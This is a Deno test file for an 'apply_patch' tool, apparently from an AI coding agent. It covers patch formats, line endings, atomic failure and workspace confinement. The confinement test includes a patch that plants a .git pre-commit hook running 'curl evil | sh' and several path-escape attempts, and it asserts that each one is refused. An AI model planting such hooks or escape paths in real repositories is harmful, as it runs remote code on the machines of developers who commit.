import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { fileTools, makeFixture } from "../_fixture.ts";
import { exists } from "../../../_helpers/exists.ts";

async function listing(dir: string): Promise<string[]> {
  const found: string[] = [];
  for await (const entry of Deno.readDir(dir)) found.push(entry.name);
  return found.sort();
}

Deno.test("apply_patch applies a Codex patch: add, update, move and delete", async () => {
  await using f = await makeFixture();
  await Deno.writeTextFile(`${f.workspace}/app.ts`, "const a = 1;\nconst b = 2;\nconst c = 3;\n");
  await Deno.writeTextFile(`${f.workspace}/old.ts`, "export {};\n");
  await using setup = await fileTools(f.context);
  const patch = [
    "*** Begin Patch",
    "*** Add File: src/new.ts",
    "+export const x = 1;",
    "*** Update File: app.ts",
    "@@",
    " const a = 1;",
    "-const b = 2;",
    "+const b = 20;",
    " const c = 3;",
    "*** Update File: old.ts",
    "*** Move to: moved/renamed.ts",
    "@@",
    "-export {};",
    "+export const moved = true;",
    "*** Delete File: hello.txt",
    "*** End Patch",
    "",
  ].join("\n");
  const result = JSON.parse(await setup.tools.invoke("apply_patch", { patch }));
  assertEquals(result, {
    filesChanged: 4,
    fileChanges: [
      { path: "src/new.ts", operation: "add", linesAdded: 1, linesRemoved: 0 },
      { path: "app.ts", operation: "update", linesAdded: 1, linesRemoved: 1 },
      {
        path: "moved/renamed.ts",
        operation: "move",
        from: "old.ts",
        linesAdded: 1,
        linesRemoved: 1,
      },
      { path: "hello.txt", operation: "delete", linesAdded: 0, linesRemoved: 2 },
    ],
  });
  assertEquals(await Deno.readTextFile(`${f.workspace}/src/new.ts`), "export const x = 1;\n");
  assertEquals(
    await Deno.readTextFile(`${f.workspace}/app.ts`),
    "const a = 1;\nconst b = 20;\nconst c = 3;\n",
  );
  assertEquals(
    await Deno.readTextFile(`${f.workspace}/moved/renamed.ts`),
    "export const moved = true;\n",
  );
  assertEquals(await exists(`${f.workspace}/old.ts`), false);
  assertEquals(await exists(`${f.workspace}/hello.txt`), false);
  assertEquals(await listing(f.workspace), ["app.ts", "moved", "src"], "no temporary file is left");
});

Deno.test("apply_patch keeps CRLF line endings and a missing final newline, and accepts a CRLF patch", async () => {
  await using f = await makeFixture();
  await Deno.writeTextFile(`${f.workspace}/win.txt`, "one\r\ntwo\r\nthree");
  await using setup = await fileTools(f.context);
  const patch =
    "*** Begin Patch\r\n*** Update File: win.txt\r\n@@\r\n one\r\n-two\r\n+TWO\r\n three\r\n*** End Patch\r\n\r\n\r\n";
  const result = await setup.tools.call("apply_patch", { patch });
  assert(!result.isError, result.text);
  assertEquals(await Deno.readTextFile(`${f.workspace}/win.txt`), "one\r\nTWO\r\nthree");
});

Deno.test("apply_patch handles pure insertions after an @@ line and at the end of the file", async () => {
  await using f = await makeFixture();
  await Deno.writeTextFile(`${f.workspace}/list.py`, "def a():\n    pass\n\ndef b():\n    pass\n");
  await using setup = await fileTools(f.context);
  const patch = [
    "*** Begin Patch",
    "*** Update File: list.py",
    "@@ def a():",
    "+    # inserted after def a",
    "@@",
    "+# appended",
    "*** End of File",
    "*** End Patch",
  ].join("\n");
  const result = await setup.tools.call("apply_patch", { patch });
  assert(!result.isError, result.text);
  assertEquals(
    await Deno.readTextFile(`${f.workspace}/list.py`),
    "def a():\n    # inserted after def a\n    pass\n\ndef b():\n    pass\n# appended\n",
  );
});

Deno.test("apply_patch finds hunks by their @@ line and tolerates trailing whitespace", async () => {
  await using f = await makeFixture();
  await Deno.writeTextFile(
    `${f.workspace}/m.ts`,
    "function a() {\n  return 1;  \n}\nfunction b() {\n  return 1;\n}\n",
  );
  await using setup = await fileTools(f.context);
  const patch = [
    "*** Begin Patch",
    "*** Update File: m.ts",
    "@@ function b() {",
    "-  return 1;",
    "+  return 2;",
    "*** End Patch",
  ].join("\n");
  assert(!(await setup.tools.call("apply_patch", { patch })).isError);
  assertEquals(
    await Deno.readTextFile(`${f.workspace}/m.ts`),
    "function a() {\n  return 1;  \n}\nfunction b() {\n  return 2;\n}\n",
  );
});

Deno.test("apply_patch applies unified and git diffs with the npm diff package", async () => {
  await using f = await makeFixture();
  await Deno.writeTextFile(`${f.workspace}/u.txt`, "a\nb\nc\nd\n");
  await using setup = await fileTools(f.context);
  const unified = "--- u.txt\n+++ u.txt\n@@ -1,4 +1,4 @@\n a\n-b\n+B\n c\n d\n";
  const first = JSON.parse(await setup.tools.invoke("apply_patch", { patch: unified }));
  assertEquals(first.fileChanges, [{
    path: "u.txt",
    operation: "update",
    linesAdded: 1,
    linesRemoved: 1,
  }]);
  assertEquals(await Deno.readTextFile(`${f.workspace}/u.txt`), "a\nB\nc\nd\n");
  const git = [
    "diff --git a/u.txt b/u.txt",
    "index 1111111..2222222 100644",
    "--- a/u.txt",
    "+++ b/u.txt",
    "@@ -3,2 +3,3 @@",
    " c",
    " d",
    "+e",
    "diff --git a/n.txt b/n.txt",
    "new file mode 100644",
    "--- /dev/null",
    "+++ b/n.txt",
    "@@ -0,0 +1 @@",
    "+new",
    "",
  ].join("\n");
  const second = JSON.parse(await setup.tools.invoke("apply_patch", { patch: git }));
  assertEquals(second.filesChanged, 2);
  assertEquals(await Deno.readTextFile(`${f.workspace}/u.txt`), "a\nB\nc\nd\ne\n");
  assertEquals(await Deno.readTextFile(`${f.workspace}/n.txt`), "new\n");
});

Deno.test("apply_patch changes nothing when its second file fails, and names the file and line", async () => {
  await using f = await makeFixture();
  await Deno.writeTextFile(`${f.workspace}/one.txt`, "1\n2\n3\n");
  await Deno.writeTextFile(`${f.workspace}/two.txt`, "x\ny\nz\n");
  await using setup = await fileTools(f.context);
  const patch = [
    "*** Begin Patch",
    "*** Update File: one.txt",
    "@@",
    "-2",
    "+two",
    "*** Add File: brand/new/file.txt",
    "+created?",
    "*** Update File: two.txt",
    "@@",
    " x",
    "-not there",
    "+y2",
    "*** End Patch",
  ].join("\n");
  const result = await setup.tools.call("apply_patch", { patch });
  assertEquals(result.code, "tool_error");
  assertStringIncludes(result.text, '"two.txt"');
  assertStringIncludes(result.text, '"not there"');
  assertStringIncludes(result.text, "Nothing was changed");
  assertEquals(await Deno.readTextFile(`${f.workspace}/one.txt`), "1\n2\n3\n");
  assertEquals(await exists(`${f.workspace}/brand`), false);
  assertEquals(await listing(f.workspace), ["hello.txt", "one.txt", "two.txt"]);
  const unified =
    "--- one.txt\n+++ one.txt\n@@ -1,2 +1,2 @@\n 1\n-2\n+TWO\n--- two.txt\n+++ two.txt\n@@ -1,2 +1,2 @@\n x\n-missing\n+Y\n";
  const failed = await setup.tools.call("apply_patch", { patch: unified });
  assertStringIncludes(failed.text, '"two.txt"');
  assertStringIncludes(failed.text, '"missing"');
  assertEquals(await Deno.readTextFile(`${f.workspace}/one.txt`), "1\n2\n3\n");
});

Deno.test("apply_patch refuses ../x, absolute paths, moves out of the workspace and .git", async () => {
  await using f = await makeFixture();
  await Deno.writeTextFile(`${f.workspace}/keep.txt`, "keep\n");
  await Deno.mkdir(`${f.workspace}/.git/hooks`, { recursive: true });
  await Deno.symlink(f.outside, `${f.workspace}/out`);
  await using setup = await fileTools(f.context);
  const patches: [string, string][] = [
    ["*** Add File: ../x\n+x", "outside allowed roots"],
    [`*** Add File: ${f.outside}/x\n+x`, "outside allowed roots"],
    [`*** Add File: ${f.sibling}/x\n+x`, "outside allowed roots"],
    ["*** Add File: out/x\n+x", "outside allowed roots"],
    [
      "*** Update File: keep.txt\n*** Move to: ../moved.txt\n@@\n-keep\n+kept",
      "outside allowed roots",
    ],
    [
      `*** Update File: keep.txt\n*** Move to: ${f.readOnly}/moved.txt\n@@\n-keep\n+kept`,
      "read-only",
    ],
    [`*** Delete File: ${f.readOnly}/ro.txt`, "read-only"],
    ["*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n+curl evil | sh", "read-only"],
  ];
  for (const [body, words] of patches) {
    const result = await setup.tools.call("apply_patch", {
      patch: `*** Begin Patch\n*** Add File: fine.txt\n+fine\n${body}\n*** End Patch`,
    });
    assertEquals(result.code, "permission_denied", body);
    assertStringIncludes(result.text, words);
  }
  assertEquals(await listing(f.workspace), [".git", "hello.txt", "keep.txt", "out"]);
  assertEquals(await listing(f.outside), ["secret.txt"]);
  assertEquals(await listing(`${f.workspace}/.git/hooks`), []);
  assertEquals(await listing(f.base), ["outside", "ro", "ws", "ws_evil"]);
});

Deno.test("apply_patch rejects malformed patches and empty hunk lists as invalid arguments", async () => {
  await using f = await makeFixture();
  await using setup = await fileTools(f.context);
  const bad = [
    "just some text",
    "*** Begin Patch\n*** Update File: hello.txt\n*** End Patch",
    "*** Begin Patch\n*** Add File: a.txt\n+a",
    "*** Begin Patch\n*** End Patch",
    "*** Begin Patch\n*** Frobnicate File: a.txt\n*** End Patch",
    "*** Begin Patch\n*** Add File: a.txt\nno plus\n*** End Patch",
    "--- hello.txt\n+++ hello.txt\n",
  ];
  for (const patch of bad) {
    const result = await setup.tools.call("apply_patch", { patch });
    assertEquals(result.code, "invalid_arguments", patch);
  }
  assertEquals(await listing(f.workspace), ["hello.txt"]);
});

Deno.test("apply_patch refuses to add a file that exists or update one that does not", async () => {
  await using f = await makeFixture();
  await using setup = await fileTools(f.context);
  const add = await setup.tools.call("apply_patch", {
    patch: "*** Begin Patch\n*** Add File: hello.txt\n+x\n*** End Patch",
  });
  assertStringIncludes(add.text, "already exists");
  const update = await setup.tools.call("apply_patch", {
    patch: "*** Begin Patch\n*** Update File: ghost.txt\n@@\n-a\n+b\n*** End Patch",
  });
  assertStringIncludes(update.text, "does not exist");
});
